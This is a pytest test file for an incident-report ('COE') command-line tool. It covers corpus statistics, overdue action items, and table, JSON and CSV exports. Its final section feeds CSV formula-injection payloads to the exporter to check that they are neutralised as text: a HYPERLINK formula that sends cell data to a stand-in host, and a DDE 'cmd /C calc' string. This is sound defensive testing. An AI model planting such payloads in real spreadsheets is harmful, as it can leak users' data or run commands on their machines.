"""Cross-incident reports: the corpus queries, the formats and `coe actions/stats/export`.

Expected figures on the example COEs (coes/, COE-1001..COE-1012) were worked out by hand
from their YAML and are written here as literals; the working is in the comments.
"Today" is 2026-11-27 throughout.
"""

from __future__ import annotations

import csv
import io
import json
import math
import re
from datetime import date, datetime, timezone
from fractions import Fraction
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

from coe.cli import main
from coe.corpus import (
    CorpusError,
    action_rows,
    action_totals,
    compute_stats,
    count_by,
    completion_rate,
    days_to_close,
    durations_by_quarter,
    filter_actions,
    filter_coes,
    load_corpus,
    median,
    month_of,
    percentile,
    quarter_of,
    recurring_dependencies,
    recurring_root_causes,
    recurring_services,
    start_date,
)
from coe.model import ActionItem
from coe.reports import display_width, export_csv, export_json, table

from .conftest import MINIMAL_COE, ROOT, coe_in, write_coe

TODAY = date(2026, 11, 27)
COES = str(ROOT / "coes")
BROKEN = re.sub(r"(?m)^severity: \d$", "severity: high", MINIMAL_COE)
BROKEN_LINE = ('coes/2025-10-20-checkout/coe.yaml:5:11: error COE012 '
               'severity must be an integer from 1 to 5, got "high"')


@pytest.fixture(scope="module")
def coes():
    return list(load_corpus(ROOT / "coes", root=ROOT).coes)


def by_id(coes, coe_id):
    return next(c for c in coes if c.id == coe_id)


def run(*args: str, env: dict[str, str | None] | None = None):
    env = {"SOURCE_DATE_EPOCH": None, **(env or {})}
    return CliRunner().invoke(main, list(args), env=env, catch_exceptions=False)


# --- the corpus ------------------------------------------------------------------------


def test_corpus_holds_every_example_in_order_of_start(coes) -> None:
    assert [c.id for c in coes] == [f"COE-{n}" for n in range(1001, 1013)]


def test_a_broken_coe_stops_the_corpus_with_its_problems(tmp_path: Path) -> None:
    write_coe(tmp_path / "coes", MINIMAL_COE, "2025-10-20-ok")
    write_coe(tmp_path / "coes", BROKEN.replace("COE-1", "COE-2"))
    with pytest.raises(CorpusError) as caught:
        load_corpus(tmp_path / "coes", root=tmp_path)
    assert [p.rule for p in caught.value.problems] == ["COE012"]
    assert caught.value.coes == 2
    assert BROKEN_LINE in str(caught.value)
    assert str(caught.value).startswith("1 of 2 COEs have errors")


def test_no_folder_is_an_error(tmp_path: Path) -> None:
    with pytest.raises(NotADirectoryError):
        load_corpus(tmp_path / "nowhere")


def test_calendar_keys_use_the_start_in_utc(tmp_path: Path) -> None:
    # 02:00 on 1 December in UTC+08:00 is 18:00 on 30 November in UTC.
    text = (MINIMAL_COE.replace("2025-10-20T06:48:00Z", "2025-12-01T02:00:00+08:00")
            .replace("2025-10-20T06:52:00Z", "2025-12-01T02:04:00+08:00"))
    write_coe(tmp_path / "coes", text, "2025-11-30-late")
    [coe] = load_corpus(tmp_path / "coes", root=tmp_path).coes
    assert month_of(coe) == "2025-11"
    assert quarter_of(coe) == "2025-Q4"
    assert start_date(coe) == date(2025, 11, 30)
    assert filter_coes([coe], since=date(2025, 12, 1)) == []
    assert filter_coes([coe], until=date(2025, 11, 30)) == [coe]


def test_coes_by_severity(coes) -> None:
    # 1: 1004, 1009; 2: 1002, 1005, 1007, 1012; 3: 1001, 1006, 1008, 1010; 4: 1003; 5: 1011
    assert count_by(coes, "severity") == [("1", 2), ("2", 4), ("3", 4), ("4", 1), ("5", 1)]


def test_coes_by_month_scope_and_detection(coes) -> None:
    # COE-1004 starts 2025-11-11T00:03+08:00, still November in UTC (the 10th).
    assert count_by(coes, "month") == [
        ("2025-06", 1), ("2025-08", 1), ("2025-09", 1), ("2025-11", 1), ("2026-01", 1),
        ("2026-03", 1), ("2026-05", 1), ("2026-07", 1), ("2026-08", 1), ("2026-10", 1),
        ("2026-11", 2),
    ]
    # multi-service: 1002, 1004, 1007, 1009, 1012
    assert count_by(coes, "scope") == [("single-service", 7), ("multi-service", 5)]
    assert dict(count_by(coes, "detection_method")) == {
        "canary": 2, "subsystem-alarm": 2, "aggregate-alarm": 2, "service-alarm": 2,
        "customer-report": 1, "support-case": 1, "social-media": 1, "manual": 1,
    }


def test_coes_by_service_counts_each_coe_once_per_service(coes) -> None:
    services = dict(count_by(coes, "service"))
    assert services["checkout-api"] == 5  # 1002, 1004, 1007, 1009, 1011
    assert services["search"] == 4  # 1001, 1004, 1007, 1008
    assert services["notifications"] == 4  # 1002, 1003, 1010, 1012
    assert services["payments-webhooks"] == 1
    assert count_by(coes, "service")[0] == ("checkout-api", 5)


def test_coes_by_root_cause_category_and_mitigation_kind(coes) -> None:
    # COEs with at least one root-cause node of the category.
    assert count_by(coes, "root_cause_category") == [
        ("process", 9),        # all but 1008, 1011, 1012
        ("configuration", 8),  # 1001, 1005, 1006, 1007, 1009, 1010, 1011, 1012
        ("detection-gap", 7),  # 1001, 1003, 1005, 1006, 1008, 1010, 1011
        ("software-bug", 7),   # 1002, 1003, 1005, 1007, 1008, 1009, 1010
        ("capacity", 5),       # 1002, 1004, 1005, 1008, 1009
        ("dependency", 5),     # 1002, 1004, 1007, 1010, 1012
        ("deployment", 4),     # 1001, 1002, 1004, 1006
        ("hardware", 1),
        ("other", 1),
    ]
    assert dict(count_by(coes, "mitigation_kind")) == {
        "rollback": 7,      # 1001, 1002, 1003, 1004, 1006, 1007, 1012
        "feature-flag": 6,  # 1003, 1006, 1007, 1009, 1010, 1011
        "restart": 5,       # 1002, 1005, 1008, 1009, 1012
        "scale-up": 5,      # 1004, 1005, 1008, 1010, 1011
        "shift-away": 4,    # 1001, 1004, 1009, 1010
        "other": 3,         # 1005, 1006, 1008
        "roll-forward": 3,  # 1005, 1006, 1008
    }


def test_median_and_p90_per_quarter(coes) -> None:
    quarters = durations_by_quarter(coes)
    assert list(quarters) == ["2025-Q2", "2025-Q3", "2025-Q4", "2026-Q1", "2026-Q2",
                              "2026-Q3", "2026-Q4"]
    q4 = quarters["2026-Q4"]  # COE-1010, 1011, 1012
    assert q4.coes == 3
    # detect: 1010 08:15->08:53 = 38, 1011 20:00->20:04 = 4, 1012 09:41->09:44 = 3
    # sorted 3, 4, 38: median 4; p90 at rank ceil(0.9 * 3) = 3 -> 38
    assert (q4.time_to_detect.median, q4.time_to_detect.p90) == (4, 38)
    # engage: 9, 0, 3 -> median 3, p90 9; mitigate: 145, 12, 41 -> median 41, p90 145
    assert (q4.time_to_engage.median, q4.time_to_engage.p90) == (3, 9)
    assert (q4.time_to_mitigate.median, q4.time_to_mitigate.p90) == (41, 145)
    # resolve: only COE-1010 is resolved, 10-06 08:15 -> 10-07 12:00 = 27 h 45 min
    assert q4.time_to_resolve.count == 1
    assert q4.time_to_resolve.median == q4.time_to_resolve.p90 == 1665
    q3 = quarters["2025-Q3"]  # COE-1002 (3 min), COE-1003 (47 min): an even count
    assert (q3.time_to_detect.median, q3.time_to_detect.p90) == (25, 47)
    # resolve: 19 h 50 min = 1190, 17 h 55 min = 1075 -> median 1132.5
    assert (q3.time_to_resolve.median, q3.time_to_resolve.p90) == (1132.5, 1190)


def test_median_and_p90_over_all_coes(coes) -> None:
    overall = compute_stats(coes, TODAY).durations
    # detect, sorted: 2 2 2 3 3 3 4 4 38 47 62 195; median (3 + 4) / 2; p90 rank 11 -> 62
    assert (overall.time_to_detect.median, overall.time_to_detect.p90) == (3.5, 62)
    # mitigate: 12 34 39 41 42 50 71 76 82 145 190 330 -> (50 + 71) / 2, rank 11 -> 190
    assert (overall.time_to_mitigate.median, overall.time_to_mitigate.p90) == (60.5, 190)
    assert overall.time_to_resolve.count == 10  # 1011 and 1012 are not resolved


def test_action_item_totals(coes) -> None:
    totals = action_totals(coes, TODAY)
    # items per COE: 6 7 6 8 7 6 8 6 8 6 3 2
    assert totals.total == 73
    assert totals.done == 36  # 4 4 4 5 3 3 3 3 5 2 0 0
    assert totals.wont_do == 8  # one in each of COE-1001..1008
    assert totals.open == 29  # 11 in progress + 18 open
    assert totals.overdue == 15
    assert totals.completion_rate == pytest.approx(36 / 65)  # done / (73 - 8)
    # 36 done items, days from the start's UTC date to closed, sorted; the 18th and 19th
    # are both 16 (COE-1005 AI-5: 01-14 -> 01-30; COE-1007 AI-7: 05-20 -> 06-05).
    assert totals.median_days_to_close == 16


def test_days_to_close_counts_from_the_utc_start_date(coes) -> None:
    dns = by_id(coes, "COE-1004")  # starts 2025-11-11T00:03+08:00 = 2025-11-10 in UTC
    items = {i.id: i for i in dns.action_items}
    assert days_to_close(dns, items["AI-2"]) == 92  # 2025-11-10 -> 2026-02-10
    assert days_to_close(dns, items["AI-3"]) == 3  # -> 2025-11-13
    assert days_to_close(dns, items["AI-1"]) is None  # in progress
    assert days_to_close(dns, items["AI-8"]) is None  # wont-do


def test_overdue_items_and_their_days(coes) -> None:
    rows = filter_actions(action_rows(coes), TODAY, overdue=True)
    # 2026-11-27 is day 331 of 2026; 2025-12-15 is 16 days before the end of 2025.
    assert [(r.coe.id, r.item.id, r.days_overdue(TODAY)) for r in rows] == [
        ("COE-1001", "AI-4", 347),  # 16 + 331
        ("COE-1002", "AI-3", 343),  # due 2025-12-19: 12 + 331
        ("COE-1002", "AI-5", 301),  # due 2026-01-30, day 30
        ("COE-1003", "AI-4", 273),  # due 2026-02-27, day 58
        ("COE-1004", "AI-1", 241),  # due 2026-03-31, day 90
        ("COE-1005", "AI-3", 241),
        ("COE-1005", "AI-7", 58),  # due 2026-09-30, day 273
        ("COE-1006", "AI-4", 182),  # due 2026-05-29, day 149
        ("COE-1007", "AI-3", 119),  # due 2026-07-31, day 212
        ("COE-1007", "AI-5", 88),  # due 2026-08-31, day 243
        ("COE-1008", "AI-4", 58),
        ("COE-1009", "AI-3", 28),  # due 2026-10-30, day 303
        ("COE-1009", "AI-7", 14),  # due 2026-11-13
        ("COE-1010", "AI-1", 7),  # due 2026-11-20
        ("COE-1010", "AI-5", 21),  # due 2026-11-06
    ]


def test_action_filters(coes) -> None:
    rows = action_rows(coes)
    assert len(rows) == 73
    # lena.brandt: COE-1002 AI-2, AI-7; COE-1007 AI-1, AI-4, AI-8; COE-1012 AI-1
    assert len(filter_actions(rows, TODAY, owner="Lena.Brandt")) == 6
    # identity: COE-1002 AI-1, 3, 5, 6; COE-1009 AI-1, 2, 3, 6
    assert len(filter_actions(rows, TODAY, team="identity")) == 8
    assert [(r.coe.id, r.item.id) for r in filter_actions(rows, TODAY, team="identity",
                                                         overdue=True)] == [
        ("COE-1002", "AI-3"), ("COE-1002", "AI-5"), ("COE-1009", "AI-3")]
    assert len(filter_actions(rows, TODAY, statuses=["wont-do"])) == 8
    assert len(filter_actions(rows, TODAY, statuses=["open", "in-progress"])) == 29
    assert filter_actions(rows, TODAY, team="网络基础设施", statuses=["done"])[0].item.id == "AI-2"


def test_completion_rate_leaves_wont_do_out() -> None:
    def item(status: str) -> ActionItem:
        return ActionItem("AI-1", "t", "o", "high", date(2026, 1, 1), status)

    assert completion_rate([item("done"), item("open"), item("wont-do")]) == 0.5
    assert completion_rate([item("wont-do")]) is None
    assert completion_rate([]) is None


def test_recurrence(coes) -> None:
    services = recurring_services(coes)
    assert [(r.name, len(r.coes)) for r in services] == [
        ("checkout-api", 5), ("notifications", 4), ("search", 4), ("auth-service", 3),
        ("object-storage", 3), ("cart", 2), ("config-push", 2), ("internal-dns", 2),
        ("payments-gateway", 2),
    ]
    assert [c.id for c in services[0].coes] == ["COE-1002", "COE-1004", "COE-1007",
                                               "COE-1009", "COE-1011"]
    assert [(r.name, [c.id for c in r.coes]) for r in recurring_dependencies(coes)] == [
        ("config-push", ["COE-1002", "COE-1007", "COE-1012"]),
        ("internal-dns", ["COE-1004", "COE-1012"]),
    ]
    causes = recurring_root_causes(coes)
    assert (causes[0].name, len(causes[0].coes)) == ("process", 9)
    assert "hardware" not in [r.name for r in causes]  # only COE-1009


def test_stats_since_until(coes) -> None:
    stats = compute_stats(coes, TODAY, since=date(2026, 1, 1), until=date(2026, 6, 30))
    assert stats.coes == 3  # COE-1005, 1006, 1007
    assert stats.coes_by["severity"] == [("2", 2), ("3", 1)]
    assert stats.actions.total == 21  # 7 + 6 + 8


# --- median and percentile -------------------------------------------------------------


def test_percentile_examples() -> None:
    assert percentile([1, 2, 3, 4], 90) == 4  # rank ceil(3.6) = 4
    assert percentile([15, 20, 35, 40, 50], 30) == 20  # rank ceil(1.5) = 2
    assert percentile([15, 20, 35, 40, 50], 40) == 20  # rank ceil(2.0) = 2, not 3
    assert percentile(list(range(1, 11)), 70) == 7  # 0.7 * 10 is 7.000000000000001 in floats
    assert percentile([5], 1) == percentile([5], 100) == 5
    assert median([3, 1, 2]) == 2
    assert median([4, 1, 3, 2]) == 2.5
    with pytest.raises(ValueError):
        percentile([], 50)
    with pytest.raises(ValueError):
        percentile([1], 0)
    with pytest.raises(ValueError):
        median([])


NUMBERS = st.lists(st.one_of(st.integers(-10**6, 10**6),
                             st.floats(-1e9, 1e9, allow_nan=False, allow_infinity=False)),
                   min_size=1, max_size=60)
PERCENTS = st.one_of(st.integers(1, 100), st.sampled_from([0.5, 12.5, 33.3, 66.7, 99.9]))


@given(NUMBERS)
def test_median_lies_between_min_and_max_and_splits_the_values(values) -> None:
    middle = median(values)
    assert min(values) <= middle <= max(values)
    assert sum(1 for v in values if v < middle) <= len(values) / 2
    assert sum(1 for v in values if v > middle) <= len(values) / 2
    assert percentile(values, 90) >= middle


@given(NUMBERS, PERCENTS)
def test_percentile_is_the_smallest_value_with_p_percent_at_or_below(values, p) -> None:
    # The nearest-rank definition stated without ranks.
    share = Fraction(str(p)) / 100
    result = percentile(values, p)
    assert result in values
    assert sum(1 for v in values if v <= result) >= share * len(values)
    for smaller in (v for v in values if v < result):
        assert sum(1 for v in values if v <= smaller) < share * len(values)
    ordered = sorted(values)
    assert result == ordered[math.ceil(share * len(values)) - 1]


# --- formats ---------------------------------------------------------------------------


def test_display_width_counts_wide_characters_twice() -> None:
    assert display_width("abc") == 3
    assert display_width("网络基础设施") == 12
    assert display_width("ｅ") == 2  # fullwidth
    assert display_width("e\u0301") == 1  # e + combining acute


def test_table_aligns_by_display_width() -> None:
    lines = table(["TEAM", "N", "NOTE"], [["网络", "1", "x"], ["search", "22", "yy"]], right={1})
    assert lines == ["TEAM     N  NOTE", "网络     1  x", "search  22  yy"]


def test_export_is_the_same_for_the_same_input(coes) -> None:
    first = export_json(coes, TODAY)
    assert export_json(list(coes), TODAY) == first
    assert export_csv(coes, TODAY) == export_csv(list(coes), TODAY)
    assert json.loads(first)["generated"] == "2026-11-27"


# --- the commands ----------------------------------------------------------------------


def test_actions_table_of_overdue_items() -> None:
    result = run("actions", "--overdue", "--today", "2026-11-27", "--coes", COES)
    assert result.exit_code == 0
    lines = result.stdout.splitlines()
    assert lines[0] == "as of 2026-11-27"
    assert lines[1].split() == ["COE", "ITEM", "DUE", "STATUS", "OVERDUE", "PRIORITY", "OWNER",
                                "TEAM", "TITLE"]
    assert lines[-1] == "15 action items, 15 overdue"
    assert len(lines) == 18
    row = next(line for line in lines if line.startswith("COE-1004  AI-1"))
    assert "241 days" in row and "网络基础设施" in row
    # Every title starts in the same terminal column, the CJK row included.
    title_column = display_width(lines[1][:lines[1].index("TITLE")])
    for line, title in [(row, "所有主机"), (lines[2], "Make the eu-west")]:
        assert display_width(line[:line.index(title)]) == title_column


def test_actions_json_schema() -> None:
    result = run("actions", "--today", "2026-11-27", "--format", "json", "--coes", COES)
    assert result.exit_code == 0
    document = json.loads(result.stdout)
    assert list(document) == ["today", "action_items"]
    assert document["today"] == "2026-11-27"
    items = document["action_items"]
    assert len(items) == 73
    keys = ["coe", "coe_title", "id", "title", "owner", "team", "priority", "due", "status",
            "closed", "overdue", "days_overdue", "link"]
    types = {"coe": str, "coe_title": str, "id": str, "title": str, "owner": str,
             "priority": str, "due": str, "status": str, "overdue": bool, "days_overdue": int}
    for item in items:
        assert list(item) == keys
        for key, kind in types.items():
            assert isinstance(item[key], kind), (item["coe"], item["id"], key)
        assert item["closed"] is None or date.fromisoformat(item["closed"])
        assert item["overdue"] == (item["days_overdue"] > 0)
    first = items[0]
    assert (first["coe"], first["id"], first["status"], first["closed"]) == (
        "COE-1001", "AI-1", "done", "2025-07-28")
    assert sum(1 for i in items if i["overdue"]) == 15
    assert "网络基础设施" in result.stdout  # ensure_ascii=False


def test_actions_csv() -> None:
    result = run("actions", "--today", "2026-11-27", "--format", "csv", "--coes", COES,
                 "--status", "in-progress")
    assert result.exit_code == 0
    rows = list(csv.reader(io.StringIO(result.stdout)))
    assert rows[0] == ["coe", "coe_title", "id", "title", "owner", "team", "priority", "due",
                       "status", "closed", "overdue", "days_overdue", "link", "today"]
    assert len(rows) == 1 + 11  # 11 items in progress
    records = list(csv.DictReader(io.StringIO(result.stdout)))
    assert {r["status"] for r in records} == {"in-progress"}
    assert {r["today"] for r in records} == {"2026-11-27"}
    first = records[0]
    assert (first["coe"], first["id"], first["overdue"], first["days_overdue"]) == (
        "COE-1001", "AI-4", "true", "347")


def test_actions_filters_on_the_command_line() -> None:
    def count(*args: str) -> int:
        result = run("actions", "--today", "2026-11-27", "--format", "json", "--coes", COES, *args)
        assert result.exit_code == 0
        return len(json.loads(result.stdout)["action_items"])

    assert count("--status", "open", "--status", "in-progress") == 29
    assert count("--status", "done") == 36
    assert count("--owner", "lena.brandt") == 6
    assert count("--team", "identity") == 8
    assert count("--team", "identity", "--overdue") == 3
    assert count("--owner", "nobody") == 0


def test_actions_with_nothing_to_show() -> None:
    result = run("actions", "--today", "2026-11-27", "--owner", "nobody", "--coes", COES)
    assert result.stdout == "as of 2026-11-27\nno action items match\n"


def test_usage_errors_exit_2() -> None:
    assert run("actions", "--status", "closed", "--coes", COES).exit_code == 2
    assert run("actions", "--today", "27/11/2026", "--coes", COES).exit_code == 2
    assert run("actions", "--format", "xml", "--coes", COES).exit_code == 2
    assert run("stats", "--format", "csv", "--coes", COES).exit_code == 2
    assert run("export", "--format", "table", "--coes", COES).exit_code == 2
    result = run("stats", "--since", "2026-06-01", "--until", "2026-01-01", "--coes", COES)
    assert result.exit_code == 2 and "after --until" in result.output


def test_stats_table() -> None:
    result = run("stats", "--today", "2026-11-27", "--coes", COES)
    assert result.exit_code == 0
    lines = result.stdout.splitlines()
    assert lines[:2] == ["as of 2026-11-27", "12 COEs"]
    assert lines[lines.index("SEVERITY  COEs"):][:6] == [
        "SEVERITY  COEs", "1            2", "2            4", "3            4",
        "4            1", "5            1"]
    assert "2026-Q4     3  4 / 38    3 / 9    41 / 145    1665 / 1665 (n=1)" in lines
    assert "overdue                  15  open, due before 2026-11-27" in lines
    assert "completion rate       55.4%  done / (total - won't do)" in lines
    assert "median days to close     16  from the incident's start (UTC date) to closed, done items" in lines


def test_stats_json_with_since_and_until() -> None:
    result = run("stats", "--today", "2026-11-27", "--format", "json", "--coes", COES,
                 "--since", "2026-01-01", "--until", "2026-06-30")
    assert result.exit_code == 0
    stats = json.loads(result.stdout)
    assert list(stats) == ["today", "since", "until", "coes", "coes_by", "times", "action_items"]
    assert (stats["today"], stats["since"], stats["until"], stats["coes"]) == (
        "2026-11-27", "2026-01-01", "2026-06-30", 3)
    assert list(stats["coes_by"]) == ["severity", "month", "service", "scope", "detection_method",
                                      "root_cause_category", "mitigation_kind"]
    assert stats["coes_by"]["month"] == {"2026-01": 1, "2026-03": 1, "2026-05": 1}
    # 2026-Q1: COE-1005 detects in 3 min, COE-1006 in 195 (10:40 -> 13:55)
    assert stats["times"]["by_quarter"]["2026-Q1"]["time_to_detect"] == {
        "count": 2, "median": 99, "p90": 195}
    # COE-1005: 3 done, 3 open or in progress, 1 wont-do; 1006: 3, 2, 1; 1007: 3, 4, 1.
    # Overdue on 2026-11-27: 1005 AI-3, AI-7; 1006 AI-4; 1007 AI-3, AI-5.
    assert stats["action_items"] == {
        "total": 21, "open": 9, "done": 9, "wont_do": 3, "overdue": 5,
        "completion_rate": round(9 / 18, 4),
        # days to close: 2, 9, 16 | 2, 17, 10 | 0, 7, 16 -> sorted, the 5th is 9
        "median_days_to_close": 9,
    }


def test_stats_of_the_whole_corpus_as_json() -> None:
    stats = json.loads(run("stats", "--today", "2026-11-27", "--format", "json",
                           "--coes", COES).stdout)
    assert stats["coes_by"]["severity"] == {"1": 2, "2": 4, "3": 4, "4": 1, "5": 1}
    assert stats["times"]["all"]["time_to_detect"] == {"count": 12, "median": 3.5, "p90": 62}
    assert stats["action_items"]["completion_rate"] == 0.5538  # 36 / 65


def test_export_json() -> None:
    result = run("export", "--today", "2026-11-27", "--coes", COES)
    assert result.exit_code == 0
    document = json.loads(result.stdout)
    assert list(document) == ["generated", "today", "coes"]
    assert document["generated"] == document["today"] == "2026-11-27"
    assert [c["id"] for c in document["coes"]] == [f"COE-{n}" for n in range(1001, 1013)]
    dns = document["coes"][3]
    assert dns["times"]["start"] == "2025-11-11T00:03:00+08:00"  # as written
    assert dns["times_utc"]["start"] == "2025-11-10T16:03:00Z"
    assert dns["slug"] == "2025-11-11-internal-dns-resolver-overload"
    assert dns["action_items"][0]["team"] == "网络基础设施"
    # 00:03 -> 00:05 -> 00:07 -> 01:14 -> 04:30; AI-1 (overdue) and AI-5 (due 2026-12-31) open
    assert dns["derived"] == {"time_to_detect": 2, "time_to_engage": 2, "time_to_mitigate": 71,
                              "time_to_resolve": 267, "open_action_items": 2,
                              "overdue_action_items": 1}
    assert list(dns)[-2:] == ["times_utc", "derived"]
    coupon = document["coes"][10]  # COE-1011: not resolved, three items due after today
    assert coupon["derived"]["time_to_resolve"] is None
    assert coupon["derived"]["overdue_action_items"] == 0
    assert "resolved" not in coupon["times_utc"]


def test_export_csv_to_a_file(tmp_path: Path) -> None:
    target = tmp_path / "out" / "action-items.csv"
    result = run("export", "--format", "csv", "-o", str(target), "--today", "2026-11-27",
                 "--coes", COES)
    assert result.exit_code == 0
    assert result.stdout == ""
    assert "wrote" in result.stderr
    text = target.read_bytes().decode("utf-8")
    records = list(csv.DictReader(io.StringIO(text)))
    assert len(records) == 73
    assert list(records[0]) == [
        "coe", "coe_title", "coe_status", "coe_severity", "coe_start", "id", "title", "owner",
        "team", "priority", "kind", "due", "status", "closed", "days_to_close", "addresses",
        "link", "overdue", "days_overdue", "today"]
    dns = [r for r in records if r["coe"] == "COE-1004"]
    assert dns[1]["team"] == "网络基础设施"
    assert (dns[1]["id"], dns[1]["days_to_close"], dns[1]["coe_start"]) == (
        "AI-2", "92", "2025-11-10T16:03:00Z")


def test_export_json_to_a_file(tmp_path: Path) -> None:
    target = tmp_path / "coes.json"
    result = run("export", "-o", str(target), "--today", "2026-11-27", "--coes", COES)
    assert result.exit_code == 0 and result.stdout == ""
    assert json.loads(target.read_text(encoding="utf-8"))["today"] == "2026-11-27"


def test_source_date_epoch_is_today_without_today_option() -> None:
    epoch = str(int(datetime(2026, 11, 27, 15, 30, tzinfo=timezone.utc).timestamp()))
    env = {"SOURCE_DATE_EPOCH": epoch}
    table_output = run("actions", "--overdue", "--coes", COES, env=env).stdout
    assert table_output.startswith("as of 2026-11-27\n")
    assert table_output.endswith("15 action items, 15 overdue\n")
    assert run("stats", "--coes", COES, env=env).stdout.startswith("as of 2026-11-27\n")
    exported = json.loads(run("export", "--coes", COES, env=env).stdout)
    assert (exported["generated"], exported["today"]) == ("2026-11-27", "2026-11-27")
    # --today wins over SOURCE_DATE_EPOCH
    later = run("actions", "--today", "2026-12-01", "--coes", COES, env=env).stdout
    assert later.startswith("as of 2026-12-01\n")


@pytest.mark.parametrize("command", [["actions"], ["stats"], ["export"],
                                     ["export", "--format", "csv"]])
def test_a_broken_coe_exits_1_with_validate_lines(in_tmp: Path, command: list[str]) -> None:
    write_coe(in_tmp / "coes", MINIMAL_COE.replace("COE-1", "COE-2"), "2025-10-20-fine")
    write_coe(in_tmp / "coes", BROKEN)
    result = run(*command, "--today", "2026-11-27")
    assert result.exit_code == 1
    assert result.stdout == ""
    assert result.stderr.splitlines()[0] == BROKEN_LINE
    assert "1 of 2 COEs have errors" in result.stderr


def test_reports_read_the_repository_coes_folder(in_tmp: Path) -> None:
    assert run("actions").exit_code == 2  # no coes/ here
    (in_tmp / "mkdocs.yml").write_text("site_name: x\nplugins:\n  - coe:\n      coes_dir: incidents\n")
    write_coe(in_tmp / "incidents")
    result = run("stats", "--today", "2026-11-27", "--format", "json")
    assert result.exit_code == 0
    assert json.loads(result.stdout)["coes"] == 1


def test_report_commands_have_help() -> None:
    for command in ("actions", "stats", "export"):
        result = run(command, "--help")
        assert result.exit_code == 0
        assert "--today" in result.output and "--coes" in result.output
    assert "[open|in-progress|done|wont-do]" in run("actions", "--help").output


# --- CSV opened in a spreadsheet: no author text runs as a formula -------------------------

FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"ok")', "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1+1", "-2+3", "\tlooks=1", "\r=1", "'quoted", "''=1"]


def read_cell(cell: str) -> str:
    """What a spreadsheet shows: a leading apostrophe marks text and is not shown."""
    return cell[1:] if cell.startswith("'") else cell


def action_coe(title: str, owner: str, team: str) -> str:
    def q(text: str) -> str:
        return json.dumps(text, ensure_ascii=False)

    return MINIMAL_COE + (
        f"action_items:\n  - {{id: AI-1, title: {q(title)}, owner: {q(owner)}, team: {q(team)}, "
        "priority: high, due: 2025-11-20, status: open}\n")


def exported_rows(tmp_path: Path, title: str, owner: str, team: str) -> list[dict[str, str]]:
    write_coe(tmp_path / "coes", action_coe(title, owner, team))
    coes = list(load_corpus(tmp_path / "coes", root=tmp_path).coes)
    return list(csv.DictReader(io.StringIO(export_csv(coes, TODAY))))


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_in_author_text_is_text_in_every_csv(tmp_path: Path, formula: str) -> None:
    [row] = exported_rows(tmp_path, formula, formula, formula)
    for field in ("title", "owner", "team"):
        assert row[field] == "'" + formula  # neutralised: a spreadsheet shows it as text
        assert read_cell(row[field]) == formula
    assert row["coe_severity"] == "3" and row["days_overdue"] == "372"  # numbers stay numbers
    result = run("actions", "--today", "2026-11-27", "--format", "csv", "--coes",
                 str(tmp_path / "coes"))
    [listed] = list(csv.DictReader(io.StringIO(result.stdout)))
    assert listed["title"] == listed["owner"] == listed["team"] == "'" + formula


@given(st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), min_size=1))
def test_any_cell_reads_back_as_written_and_never_starts_a_formula(text: str) -> None:
    from coe.reports import to_csv

    written = to_csv(["a", "n"], [{"a": text, "n": -3}])
    [row] = list(csv.DictReader(io.StringIO(written, newline="")))
    assert read_cell(row["a"]) == text
    assert not row["a"].startswith(("=", "+", "-", "@", "\t", "\r"))
    assert row["n"] == "-3"  # a real number, negative, is left as it is


def test_the_sites_csv_is_neutralised(tmp_path: Path) -> None:
    import shutil

    shutil.copy(ROOT / "mkdocs.yml", tmp_path / "mkdocs.yml")
    (tmp_path / "docs").mkdir()
    write_coe(tmp_path / "coes", action_coe(FORMULAS[0], FORMULAS[1], "ops"))
    assert coe_in(tmp_path, "build", "--today", "2026-11-27").exit_code == 0
    [row] = list(csv.DictReader(io.StringIO((tmp_path / "site/action-items.csv").read_text(encoding="utf-8"))))
    assert (row["title"], row["owner"], row["team"]) == ("'" + FORMULAS[0], "'" + FORMULAS[1], "ops")
